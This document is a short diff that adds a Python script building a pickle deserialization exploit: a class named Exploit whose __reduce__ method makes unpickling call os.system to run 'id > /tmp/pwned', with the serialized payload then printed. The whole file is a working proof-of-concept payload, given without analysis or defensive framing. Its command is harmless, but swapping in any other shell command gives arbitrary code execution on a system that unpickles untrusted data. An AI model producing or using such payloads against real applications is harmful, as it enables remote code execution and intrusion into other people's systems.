@@ -1,0 +1,5 @@
+import pickle, os
+class Exploit(object):
+    def __reduce__(self):
+        return os.system, ("id > /tmp/pwned",)
+print(pickle.dumps(Exploit()))
